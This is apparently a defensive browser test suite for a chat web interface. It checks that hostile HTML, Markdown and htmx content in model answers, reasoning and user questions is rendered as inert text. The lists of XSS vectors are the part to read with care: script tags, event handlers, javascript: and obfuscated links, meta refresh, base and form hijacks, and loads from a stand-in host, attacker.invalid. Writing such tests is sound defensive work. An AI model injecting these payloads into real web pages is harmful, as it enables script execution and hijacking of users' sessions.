"""Whatever a model writes, it runs no script, asks no other server and stays in its place."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.scripted_server import ended, says, sends

pytestmark = pytest.mark.browser

RUN = "window.attacked=(window.attacked||0)+1"
AWAY = "https://attacker.invalid"
HTML = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg onload='{RUN}'></svg>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<iframe srcdoc='<script>parent.{RUN.replace('window.', 'parent.')}</script>'></iframe>",
    f"<video><source onerror='{RUN}'></video>",
    f"<style>@import '{AWAY}/style.css';</style>",
    f"<link rel=stylesheet href='{AWAY}/link.css'>",
    f"<img src='{AWAY}/pixel.png'>",
    f"<object data='{AWAY}/object'></object>",
]
MARKDOWN = [
    f"![pixel]({AWAY}/markdown.png)",
    f"[click me](javascript:{RUN})",
    f"[click me](JaVaScRiPt:{RUN})",
    f"[click me](java&#10;script:{RUN})",
    f"[click me](data:text/html,<script>opener.{RUN}</script>)",
    f"[click me](vbscript:{RUN})",
    f'[click me](/x "onclick={RUN}")',
    f"<javascript:{RUN}>",
    f'```"><script>{RUN}</script>\ncode\n```',
    f'[text][ref]\n\n[ref]: javascript:{RUN} "title"',
    f"| <img src=x onerror='{RUN}'> |\n|---|\n| <script>{RUN}</script> |",
    f"`<img src=x onerror='{RUN}'>`",
    f"- [ ] <input autofocus onfocus='{RUN}'>",
]
PAGE = [
    "<hx-partial hx-target='#badge' hx-swap='innerHTML'>attacked</hx-partial>",
    "</hx-partial><hx-partial hx-target='#messageInput' hx-swap='delete'>x</hx-partial>",
    "<template hx type='partial' hx-target='#badge'>attacked</template>",
    f"<div hx-get='{AWAY}/htmx' hx-trigger='load'>x</div>",
    "<div hx-post='/apps/settings/' hx-vals='{\"theme\": \"dark\"}' hx-trigger='load'>x</div>",
    "<title>attacked</title>",
    "<meta http-equiv='refresh' content='0;url=/apps/settings/'>",
    f"<base href='{AWAY}/'>",
    f"<form action='{AWAY}/' id='stopForm'><button autofocus>Send</button></form>",
    "data: x\n\nevent: sessions\ndata: <title>attacked</title>\n\n",
    "</div></article></main><h1>attacked</h1>",
]


def assert_unharmed(chat) -> None:
    expect(chat.badge).not_to_contain_text("attacked")
    expect(chat.page).to_have_title("attack · Amplifier")
    expect(chat.page.locator("h1", has_text="attacked")).to_have_count(0)
    expect(chat.answer.locator("script, style, iframe, img, object, form, svg")).to_have_count(0)
    expect(chat.answer.locator("[onerror], [onload], [onfocus], [hx-get], [hx-post]")).to_have_count(0)
    for link in chat.answer.get_by_text("click me").all():
        link.click(no_wait_after=True)
    assert len(chat.page.context.pages) == 1
    assert chat.page.evaluate("window.attacked") is None
    expect(chat.field).to_be_visible()
    expect(chat.page.locator("html")).to_have_attribute("data-theme", "system")


def test_these_attacks_work_on_a_page_that_does_not_defend_itself(chromium):
    page = chromium.new_page()
    asked = []
    page.route("**/*", lambda route: (asked.append(route.request.url), route.abort()))
    page.set_content("<!doctype html>" + "".join(HTML), wait_until="commit")
    page.wait_for_function("window.attacked >= 5")
    assert len([url for url in asked if url.startswith(AWAY)]) >= 3
    page.close()


@pytest.mark.parametrize("attacks", [HTML, MARKDOWN, PAGE], ids=["HTML", "Markdown", "this page"])
def test_a_hostile_answer_runs_nothing_and_asks_nobody(serve_model, model, visit, attacks):
    text = "\n\n".join(attacks) + "\n\nThe end."
    # Cut in the middle of everything, then once more in one piece by the reload.
    model.script(says(*(text[start : start + 7] for start in range(0, len(text), 7)), delay=0.003))
    chat = visit(serve_model())
    chat.asked("attack")
    expect(chat.answer).to_contain_text("The end.")
    assert_unharmed(chat)
    chat.page.reload()
    expect(chat.answer).to_contain_text("The end.")
    assert_unharmed(chat)
    chat.asked("still there?")
    expect(chat.answer).to_have_text("Hello there.")


def test_hostile_reasoning_is_text_too(serve_model, model, visit):
    attack = f"</div><script>{RUN}</script><img src=x onerror='{RUN}'>"
    model.script(sends({"choices": [{"index": 0, "delta": {"reasoning_content": attack}}]}, "Fine.", ended()))
    chat = visit(serve_model())
    chat.asked("attack")
    chat.answers.last.locator("summary").click()
    expect(chat.answers.last.locator(".reasoning .plain")).to_have_text(attack)
    assert chat.page.evaluate("window.attacked") is None


def test_a_hostile_question_is_text_everywhere(serve, visit):
    attack = f"<img src=x onerror='{RUN}'></title><script>{RUN}</script>"
    chat = visit(serve("--backend", "mock", "--mock-delay", "0"))
    chat.asked(attack)
    assert chat.texts()[0] == attack
    assert chat.page.title().startswith("<img src=x")
    chat.open_sessions()
    expect(chat.rows.first).to_contain_text("<img src=x")
    chat.page.reload()
    assert chat.texts()[0] == attack
    assert chat.page.evaluate("window.attacked") is None
